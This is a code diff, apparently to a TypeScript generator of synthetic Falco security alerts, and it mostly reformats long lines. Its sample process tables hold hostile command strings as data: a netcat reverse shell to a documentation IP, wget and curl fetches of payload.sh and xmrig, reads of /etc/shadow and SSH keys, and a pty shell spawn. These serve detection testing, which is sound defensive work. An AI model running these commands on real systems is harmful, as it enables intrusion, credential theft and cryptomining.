@@ -125,7 +125,11 @@ const PROCESSES: readonly (readonly [name: string, exepath: string, args: readon
   ["bash", "/usr/bin/bash", ["", "-i", "-c 'id; uname -a'"]],
   ["sh", "/usr/bin/dash", ["-c 'cat /etc/shadow'", "-c 'command -v bash >/dev/null && exec bash || exec sh'", ""]],
   ["cat", "/usr/bin/cat", ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"]],
-  ["curl", "/usr/bin/curl", ["-s http://169.254.169.254/latest/meta-data/", "-fsSL https://example.com/install.sh", "-o /tmp/x http://198.51.100.7/x"]],
+  [
+    "curl",
+    "/usr/bin/curl",
+    ["-s http://169.254.169.254/latest/meta-data/", "-fsSL https://example.com/install.sh", "-o /tmp/x http://198.51.100.7/x"],
+  ],
   ["wget", "/usr/bin/wget", ["-q -O - http://203.0.113.9/payload.sh", "http://198.51.100.7/xmrig"]],
   ["python3", "/usr/bin/python3.12", ["-c 'import pty; pty.spawn(\"/bin/sh\")'", "/app/manage.py migrate", "app.py"]],
   ["nc", "/usr/bin/nc.openbsd", ["-e /bin/sh 198.51.100.7 4444", "-lvnp 9001"]],
@@ -209,7 +213,16 @@ function pickNamespace(rng: Rng): (typeof NAMESPACES)[number] {
 function pickPlace(rng: Rng): Place {
   const hostname = rng.pick(HOSTNAMES);
   if (rng.chance(0.12)) {
-    return { hostname, namespace: null, pod: null, app: null, containerId: "host", containerName: "host", imageRepository: null, imageTag: null };
+    return {
+      hostname,
+      namespace: null,
+      pod: null,
+      app: null,
+      containerId: "host",
+      containerName: "host",
+      imageRepository: null,
+      imageTag: null,
+    };
   }
   const [namespace, , apps] = pickNamespace(rng);
   const app = rng.pick(apps);
@@ -248,101 +261,180 @@ function fieldValue(field: string, c: FieldContext): Value {
     const depth = Number(field.slice(field.indexOf("[") + 1, -1));
     return depth > 2 + rng.int(3) ? null : rng.pick(PARENTS);
   }
-  if (field.startsWith("jevt.value[")) return rng.chance(0.5) ? null : `[{"hostPath":{"path":"${rng.pick(["/", "/etc", "/var/run/docker.sock", "/proc"])}"},"name":"host"}]`;
+  if (field.startsWith("jevt.value["))
+    return rng.chance(0.5) ? null : `[{"hostPath":{"path":"${rng.pick(["/", "/etc", "/var/run/docker.sock", "/proc"])}"},"name":"host"}]`;
   if (field.startsWith("json.value[")) return `i-0${randomText(rng, HEX, 16)}`;
   if (field.startsWith("ka.uri.param[")) return rng.pick(["sh", "bash", "cat /etc/shadow", null]);
   switch (field) {
-    case "evt.type": return evtTypeFor(c.rule, rng);
-    case "evt.res": return rng.chance(0.9) ? "SUCCESS" : "EACCES";
-    case "evt.arg.flags": return rng.pick(["O_RDONLY", "O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC", "EXE_WRITABLE|EXE_UPPER_LAYER", "EXE_WRITABLE", "O_RDWR"]);
-    case "evt.arg.mode": return rng.pick(["S_IXUSR|S_IWUSR|S_IRUSR", "S_ISUID|S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IRWXU", "0755"]);
-    case "evt.arg.uid": return rng.pick(["0", "1000"]);
-    case "evt.arg.fd": return rng.int(40);
-    case "evt.arg.cmd": return rng.pick(["BPF_PROG_LOAD", "BPF_MAP_CREATE"]);
+    case "evt.type":
+      return evtTypeFor(c.rule, rng);
+    case "evt.res":
+      return rng.chance(0.9) ? "SUCCESS" : "EACCES";
+    case "evt.arg.flags":
+      return rng.pick([
+        "O_RDONLY",
+        "O_RDONLY|O_CLOEXEC",
+        "O_WRONLY|O_CREAT|O_TRUNC",
+        "EXE_WRITABLE|EXE_UPPER_LAYER",
+        "EXE_WRITABLE",
+        "O_RDWR",
+      ]);
+    case "evt.arg.mode":
+      return rng.pick(["S_IXUSR|S_IWUSR|S_IRUSR", "S_ISUID|S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IRWXU", "0755"]);
+    case "evt.arg.uid":
+      return rng.pick(["0", "1000"]);
+    case "evt.arg.fd":
+      return rng.int(40);
+    case "evt.arg.cmd":
+      return rng.pick(["BPF_PROG_LOAD", "BPF_MAP_CREATE"]);
     case "evt.arg.name":
     case "evt.arg.filename":
     case "evt.arg.path":
     case "evt.arg.target":
     case "evt.arg.linkpath":
     case "evt.arg.newpath":
-    case "evt.arg.oldpath": return rng.pick(FILES);
-    case "evt.args": return `fd=${rng.int(40)}(<f>${rng.pick(FILES)}) flags=${rng.int(8)}`;
-    case "evt.num": return 1 + rng.int(50_000_000);
+    case "evt.arg.oldpath":
+      return rng.pick(FILES);
+    case "evt.args":
+      return `fd=${rng.int(40)}(<f>${rng.pick(FILES)}) flags=${rng.int(8)}`;
+    case "evt.num":
+      return 1 + rng.int(50_000_000);
     case "evt.time":
-    case "evt.time.iso8601": return c.evtTimeNs;
-    case "evt.plugininfo": return `${rng.pick(["ConsoleLogin", "CreateUser", "RunInstances", "PutBucketPolicy"])} ${rng.pick(AWS_USERS)}`;
-    case "user.name": return c.user[0];
-    case "user.loginname": return rng.chance(0.7) ? "" : "ubuntu";
-    case "user.uid": return c.user[1];
-    case "user.loginuid": return rng.chance(0.8) ? -1 : 1000;
-    case "group.gid": return c.user[1];
-    case "group.name": return c.user[0];
-    case "proc.name": return proc[0];
+    case "evt.time.iso8601":
+      return c.evtTimeNs;
+    case "evt.plugininfo":
+      return `${rng.pick(["ConsoleLogin", "CreateUser", "RunInstances", "PutBucketPolicy"])} ${rng.pick(AWS_USERS)}`;
+    case "user.name":
+      return c.user[0];
+    case "user.loginname":
+      return rng.chance(0.7) ? "" : "ubuntu";
+    case "user.uid":
+      return c.user[1];
+    case "user.loginuid":
+      return rng.chance(0.8) ? -1 : 1000;
+    case "group.gid":
+      return c.user[1];
+    case "group.name":
+      return c.user[0];
+    case "proc.name":
+      return proc[0];
     case "proc.exepath":
-    case "proc.exe": return proc[1];
-    case "proc.cmdline": return `${proc[0]} ${rng.pick(proc[2])}`.trimEnd();
-    case "proc.args": return rng.pick(proc[2]);
-    case "proc.pname": return rng.chance(0.05) ? null : c.parent;
-    case "proc.pcmdline": return `${c.parent} ${rng.pick(["", "-c /entrypoint.sh", "-namespace k8s.io -id 1e579f838ea3"])}`.trimEnd();
+    case "proc.exe":
+      return proc[1];
+    case "proc.cmdline":
+      return `${proc[0]} ${rng.pick(proc[2])}`.trimEnd();
+    case "proc.args":
+      return rng.pick(proc[2]);
+    case "proc.pname":
+      return rng.chance(0.05) ? null : c.parent;
+    case "proc.pcmdline":
+      return `${c.parent} ${rng.pick(["", "-c /entrypoint.sh", "-namespace k8s.io -id 1e579f838ea3"])}`.trimEnd();
     case "proc.pexepath":
-    case "proc.pexe": return `/usr/bin/${c.parent}`;
-    case "proc.sname": return rng.pick(["bash", "containerd-shim", "sshd"]);
-    case "proc.tty": return rng.chance(0.6) ? 0 : 34816 + rng.int(4);
-    case "proc.cwd": return rng.pick(["/", "/app", "/tmp", "/root"]);
-    case "proc.env": return `PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOSTNAME=${place.pod ?? place.hostname} HOME=/root`;
+    case "proc.pexe":
+      return `/usr/bin/${c.parent}`;
+    case "proc.sname":
+      return rng.pick(["bash", "containerd-shim", "sshd"]);
+    case "proc.tty":
+      return rng.chance(0.6) ? 0 : 34816 + rng.int(4);
+    case "proc.cwd":
+      return rng.pick(["/", "/app", "/tmp", "/root"]);
+    case "proc.env":
+      return `PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOSTNAME=${place.pod ?? place.hostname} HOME=/root`;
     case "proc.exe_ino.ctime":
-    case "proc.exe_ino.mtime": return c.evtTimeNs - BigInt(rng.int(3_600)) * 1_000_000_000n;
-    case "proc.exe_ino.ctime_duration_proc_start": return BigInt(rng.int(60_000)) * 1_000_000n;
+    case "proc.exe_ino.mtime":
+      return c.evtTimeNs - BigInt(rng.int(3_600)) * 1_000_000_000n;
+    case "proc.exe_ino.ctime_duration_proc_start":
+      return BigInt(rng.int(60_000)) * 1_000_000n;
     case "thread.cap_effective":
-    case "thread.cap_permitted": return rng.pick(["CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETUID CAP_SETGID CAP_NET_BIND_SERVICE", "CAP_SYS_ADMIN"]);
-    case "fd.name": return rng.pick(FILES);
-    case "fd.nameraw": return `/etc/../${rng.pick(["etc/shadow", "etc/passwd"])}`;
-    case "fd.type": return "ipv4";
-    case "fd.l4proto": return rng.chance(0.85) ? "tcp" : "udp";
+    case "thread.cap_permitted":
+      return rng.pick(["CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETUID CAP_SETGID CAP_NET_BIND_SERVICE", "CAP_SYS_ADMIN"]);
+    case "fd.name":
+      return rng.pick(FILES);
+    case "fd.nameraw":
+      return `/etc/../${rng.pick(["etc/shadow", "etc/passwd"])}`;
+    case "fd.type":
+      return "ipv4";
+    case "fd.l4proto":
+      return rng.chance(0.85) ? "tcp" : "udp";
     case "fd.lport":
-    case "fd.sport": return 30000 + rng.int(30000);
-    case "fd.rport": return rng.pick(PORTS);
+    case "fd.sport":
+      return 30000 + rng.int(30000);
+    case "fd.rport":
+      return rng.pick(PORTS);
     case "fd.rip":
-    case "fd.sip": return rng.pick(REMOTE_IPS);
+    case "fd.sip":
+      return rng.pick(REMOTE_IPS);
     case "fd.rip.name":
     case "fd.sip.name":
     case "fd.lip.name":
-    case "fd.cip.name": return rng.chance(0.5) ? null : rng.pick(["kubernetes.default.svc", "pool.minexmr.com", "api.github.com"]);
-    case "container.start_ts": return c.evtTimeNs - BigInt(rng.int(86_400)) * 1_000_000_000n;
-    case "container.mounts": return "/var/run/docker.sock:/var/run/docker.sock::true:private";
+    case "fd.cip.name":
+      return rng.chance(0.5) ? null : rng.pick(["kubernetes.default.svc", "pool.minexmr.com", "api.github.com"]);
+    case "container.start_ts":
+      return c.evtTimeNs - BigInt(rng.int(86_400)) * 1_000_000_000n;
+    case "container.mounts":
+      return "/var/run/docker.sock:/var/run/docker.sock::true:private";
     // Kubernetes audit (k8saudit plugin): strings, and arrays for list fields.
-    case "ka.user.name": return rng.pick(K8S_USERS);
-    case "ka.verb": return rng.pick(["create", "update", "patch", "delete", "get"]);
-    case "ka.uri": return `/api/v1/namespaces/${c.namespace}/${rng.pick(K8S_RESOURCES)}`;
-    case "ka.target.resource": return rng.pick(K8S_RESOURCES);
-    case "ka.target.subresource": return rng.pick(["exec", "attach", "portforward"]);
+    case "ka.user.name":
+      return rng.pick(K8S_USERS);
+    case "ka.verb":
+      return rng.pick(["create", "update", "patch", "delete", "get"]);
+    case "ka.uri":
+      return `/api/v1/namespaces/${c.namespace}/${rng.pick(K8S_RESOURCES)}`;
+    case "ka.target.resource":
+      return rng.pick(K8S_RESOURCES);
+    case "ka.target.subresource":
+      return rng.pick(["exec", "attach", "portforward"]);
     case "ka.target.name":
-    case "ka.resp.name": return `${rng.pick(["web", "api", "worker", "db"])}-${randomText(rng, ALNUM, 5)}`;
-    case "ka.target.namespace": return c.namespace;
-    case "ka.response.code": return rng.pick(["200", "201", "201", "403"]);
-    case "ka.response.reason": return rng.pick(["Forbidden", ""]);
-    case "ka.auth.decision": return rng.pick(["allow", "allow", "forbid"]);
-    case "ka.auth.reason": return `RBAC: allowed by ClusterRoleBinding "${rng.pick(["cluster-admin", "system:controller:replicaset-controller", "ci-deployer"])}"`;
+    case "ka.resp.name":
+      return `${rng.pick(["web", "api", "worker", "db"])}-${randomText(rng, ALNUM, 5)}`;
+    case "ka.target.namespace":
+      return c.namespace;
+    case "ka.response.code":
+      return rng.pick(["200", "201", "201", "403"]);
+    case "ka.response.reason":
+      return rng.pick(["Forbidden", ""]);
+    case "ka.auth.decision":
+      return rng.pick(["allow", "allow", "forbid"]);
+    case "ka.auth.reason":
+      return `RBAC: allowed by ClusterRoleBinding "${rng.pick(["cluster-admin", "system:controller:replicaset-controller", "ci-deployer"])}"`;
     case "ka.req.pod.containers.image":
       return [`${rng.pick(Object.values(IMAGES))[0]}:${rng.pick(["latest", "1.0.0"])}`];
     case "ka.req.pod.initContainers.image":
-    case "ka.req.pod.ephemeralContainers.image": return rng.chance(0.7) ? null : ["docker.io/library/busybox:1.36"];
-    case "ka.req.role.rules": return ['{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create","get"]}', '{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}'];
-    case "ka.req.binding.subjects": return [`{"kind":"ServiceAccount","name":"default","namespace":"${c.namespace}"}`];
-    case "ka.req.binding.role": return rng.pick(["cluster-admin", "edit", "view"]);
-    case "ka.req.service.ports": return [`{"nodePort":${30000 + rng.int(2767)},"port":80,"protocol":"TCP","targetPort":8080}`];
-    case "ka.req.configmap.name": return `app-config-${randomText(rng, ALNUM, 4)}`;
-    case "jevt.obj": return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","stage":"ResponseComplete","verb":"get"}`;
+    case "ka.req.pod.ephemeralContainers.image":
+      return rng.chance(0.7) ? null : ["docker.io/library/busybox:1.36"];
+    case "ka.req.role.rules":
+      return [
+        '{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create","get"]}',
+        '{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}',
+      ];
+    case "ka.req.binding.subjects":
+      return [`{"kind":"ServiceAccount","name":"default","namespace":"${c.namespace}"}`];
+    case "ka.req.binding.role":
+      return rng.pick(["cluster-admin", "edit", "view"]);
+    case "ka.req.service.ports":
+      return [`{"nodePort":${30000 + rng.int(2767)},"port":80,"protocol":"TCP","targetPort":8080}`];
+    case "ka.req.configmap.name":
+      return `app-config-${randomText(rng, ALNUM, 4)}`;
+    case "jevt.obj":
+      return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","stage":"ResponseComplete","verb":"get"}`;
     // CloudTrail (cloudtrail plugin): strings.
     case "ct.user":
-    case "ct.request.username": return rng.pick(AWS_USERS);
-    case "ct.user.principalid": return `AROA${randomText(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 17)}:${rng.pick(AWS_USERS)}`;
-    case "ct.user.arn": return `arn:aws:sts::123456789012:assumed-role/${rng.pick(["Admin", "ReadOnly", "Deployer"])}/${rng.pick(AWS_USERS)}`;
-    case "ct.srcip": return rng.pick(["198.51.100.23", "203.0.113.77", "192.0.2.10", "AWS Internal"]);
-    case "ct.region": return rng.pick(AWS_REGIONS);
-    case "ct.id": return `${randomText(rng, HEX, 8)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 12)}`;
-    case "ct.error": return rng.chance(0.8) ? null : "AccessDenied";
-    case "s3.bucket": return `acme-${rng.pick(["logs", "backups", "artifacts", "public-assets"])}`;
+    case "ct.request.username":
+      return rng.pick(AWS_USERS);
+    case "ct.user.principalid":
+      return `AROA${randomText(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 17)}:${rng.pick(AWS_USERS)}`;
+    case "ct.user.arn":
+      return `arn:aws:sts::123456789012:assumed-role/${rng.pick(["Admin", "ReadOnly", "Deployer"])}/${rng.pick(AWS_USERS)}`;
+    case "ct.srcip":
+      return rng.pick(["198.51.100.23", "203.0.113.77", "192.0.2.10", "AWS Internal"]);
+    case "ct.region":
+      return rng.pick(AWS_REGIONS);
+    case "ct.id":
+      return `${randomText(rng, HEX, 8)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 12)}`;
+    case "ct.error":
+      return rng.chance(0.8) ? null : "AccessDenied";
+    case "s3.bucket":
+      return `acme-${rng.pick(["logs", "backups", "artifacts", "public-assets"])}`;
     default:
       if (field.startsWith("ct.")) return `${field.slice(field.lastIndexOf(".") + 1)}-${randomText(rng, ALNUM, 6)}`;
       return `${field.replaceAll(".", "-")}-${randomText(rng, ALNUM, 4)}`;
@@ -375,7 +467,14 @@ function textValue(v: Value): string {
 const FIELD_TOKEN = /%([A-Za-z0-9_.]+(?:\[[^\]]*\])?)/g;
 
 /** Falco ≥ 0.41 appends the container plugin's suggested fields to syscall rules' output. */
-const SUGGESTED_FIELDS = ["container.id", "container.name", "container.image.repository", "container.image.tag", "k8s.pod.name", "k8s.ns.name"] as const;
+const SUGGESTED_FIELDS = [
+  "container.id",
+  "container.name",
+  "container.image.repository",
+  "container.image.tag",
+  "k8s.pod.name",
+  "k8s.ns.name",
+] as const;
 
 function twoDigits(n: number): string {
   return n < 10 ? `0${n}` : String(n);
